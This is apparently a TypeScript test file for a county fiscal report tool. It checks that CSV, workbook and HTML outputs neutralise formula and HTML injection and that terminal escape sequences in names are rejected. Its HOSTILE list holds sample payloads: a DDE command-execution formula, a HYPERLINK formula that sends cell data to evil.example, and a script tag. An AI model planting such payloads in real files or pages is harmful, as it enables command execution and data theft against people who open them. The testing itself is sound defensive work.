/**
 * Injection: spreadsheet formula injection (OWASP "CSV injection") through county, prefecture
 * and province names, and HTML injection. Every text cell that starts with = + - @, a tab or a
 * CR is written with a leading single quote in every CSV and in the workbook; numbers (also
 * negative amounts) stay numbers; HTML escapes every name.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/report/csv.ts';
import { isFormulaLike, safeText } from '../../src/report/cellSafety.ts';
import { cli, countyCsv, tempDir, write } from './helpers.ts';

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '-2+3',
  '＝1+1',
];

describe('injection: the one neutralising function', () => {
  it('prefixes a single quote to formula-like text and leaves numbers and plain text alone', () => {
    for (const h of HOSTILE) expect(safeText(h)).toBe(`'${h}`);
    for (const plain of ['荔湾区', 'Liwan', "O'Brien", ' =1+1', '', '1-2']) expect(safeText(plain)).toBe(plain);
    // numbers written as text are numbers, not formulas: a negative amount stays as it is
    for (const n of ['-123.45', '+5', '-0.000001', '1e3', '-1E-3']) {
      expect(isFormulaLike(n)).toBe(false);
      expect(safeText(n)).toBe(n);
    }
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField(-5)).toBe('-5');
    expect(toCsv(['a', 'b'], [{ a: '=1+1', b: '-7.50' }])).toBe("\uFEFFa,b\n'=1+1,-7.50\n");
  });
});

describe('injection: hostile names in every output', () => {
  let dir: string;
  let counties: string;
  beforeAll(() => {
    dir = tempDir('inject');
    // the first county, its prefecture and its province name are hostile; so is a note column
    const rows = countyCsv({ name: HOSTILE[0]!, prefecture: HOSTILE[3]!, province: HOSTILE[2]! }).split('\n');
    const extra = countyCsv({ code: '440103', name: HOSTILE[4]! }).split('\n')[1]!;
    const extra2 = countyCsv({ code: '440104', name: HOSTILE[5]! }).split('\n')[1]!;
    const extra3 = countyCsv({ code: '440105', name: HOSTILE[1]! }).split('\n')[1]!;
    const extra4 = countyCsv({ code: '440106', name: '<script>alert(1)</script>&"' }).split('\n')[1]!;
    counties = write(dir, 'hostile.csv', [...rows.slice(0, -1), extra, extra2, extra3, extra4, ''].join('\n'));
  });

  /** Every cell of every CSV output: none may start with a formula character unless it is a plain number. */
  function expectNoLiveFormula(file: string): number {
    const text = readFileSync(file, 'utf8').replace(/^\uFEFF/, '');
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    let neutralised = 0;
    for (const row of rows) {
      for (const cell of row) {
        expect(isFormulaLike(cell), `${file}: live formula ${JSON.stringify(cell)}`).toBe(false);
        if (cell.startsWith("'")) neutralised++;
      }
    }
    return neutralised;
  }

  it('run: counties.csv, items.csv and provinces.csv hold the names as neutralised text', async () => {
    const out = join(dir, 'run');
    const r = await cli('run', '--counties', counties, '--reference', 'none', '--out', out, '--quiet');
    expect(r.code).toBe(0);
    expect(expectNoLiveFormula(join(out, 'counties.csv'))).toBeGreaterThanOrEqual(6);
    expect(expectNoLiveFormula(join(out, 'items.csv'))).toBeGreaterThan(0);
    expectNoLiveFormula(join(out, 'provinces.csv')); // province names there come from the code list
    const rows = Papa.parse<Record<string, string>>(readFileSync(join(out, 'counties.csv'), 'utf8').replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
    const first = rows.find((c) => c['code'] === '440101')!;
    expect(first['name']).toBe(`'${HOSTILE[0]}`);
    expect(first['prefecture']).toBe(`'${HOSTILE[3]}`);
    expect(first['province']).toBe(`'${HOSTILE[2]}`);
    // the loader trims the tab or CR in front; what is left starts with = and is neutralised
    expect(rows.find((c) => c['code'] === '440103')!['name']).toBe("'=1+1");
    expect(rows.find((c) => c['code'] === '440104')!['name']).toBe("'=1+1");
    expect(rows.find((c) => c['code'] === '440105')!['name']).toBe(`'${HOSTILE[1]}`);
    // negative amounts are numbers: a county with room to spare has a negative gap, written bare
    expect(rows.some((c) => c['gap']!.startsWith('-') && /^-\d+\.\d\d$/.test(c['gap']!))).toBe(true);
  });

  it('report: tidy CSV neutralised, tidy JSON keeps the exact text, the workbook stores strings (never formulas), HTML escapes', async () => {
    const out = join(dir, 'report');
    const r = await cli('report', '--counties', counties, '--reference', 'none', '--out', out, '--quiet', '--county', 'all');
    expect(r.code).toBe(0);
    const files = readdirSync(out, { recursive: true }).map(String);
    const tidyCsv = files.find((f) => f.endsWith('.csv') && /tidy/.test(f));
    expect(tidyCsv).toBeDefined();
    expect(expectNoLiveFormula(join(out, tidyCsv!))).toBeGreaterThan(0);
    const tidyJson = files.find((f) => /tidy.*\.json$/.test(f) && !/meta/.test(f))!;
    const records = JSON.parse(readFileSync(join(out, tidyJson), 'utf8')) as Array<Record<string, unknown>>;
    expect(records.some((x) => x['county'] === HOSTILE[0])).toBe(true);

    const xlsx = files.find((f) => f.endsWith('.xlsx'))!;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(out, xlsx));
    let texts = 0;
    wb.eachSheet((ws) => {
      ws.eachRow((row) => {
        row.eachCell((cell) => {
          const v = cell.value;
          if (typeof v === 'string') {
            texts++;
            expect(isFormulaLike(v), `${ws.name}!${cell.address}: ${v}`).toBe(false);
          } else if (v && typeof v === 'object' && 'formula' in v) {
            // the only formulas are the totals rows' SUM over the sheet's own cells
            expect(String(v.formula)).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
          }
        });
      });
    });
    expect(texts).toBeGreaterThan(0);
    // the county sheet (one header row of labels in the report language: English under the tests' FISCAL_SIM_LANG=en)
    const countiesSheet = wb.getWorksheet('counties')!;
    const names: string[] = [];
    countiesSheet.eachRow((row) => names.push(typeof row.getCell(2).value === 'string' ? (row.getCell(2).value as string) : ''));
    expect(names).toContain(`'${HOSTILE[0]}`);

    const html = files.filter((f) => f.endsWith('.html')).map((f) => readFileSync(join(out, f), 'utf8')).join('\n');
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&amp;');
  });
});

describe('injection: control characters in county text', () => {
  it('a name with an escape sequence (terminal injection) is refused, naming row and column', async () => {
    const { parseCountyText } = await import('../../src/input/countyFile.ts');
    expect(() => parseCountyText(countyCsv({ name: 'a\u001b[2Jb' }), 'esc.csv')).toThrow(/esc\.csv:2:name: the text contains a control character \(U\+001B\)/);
  });
});
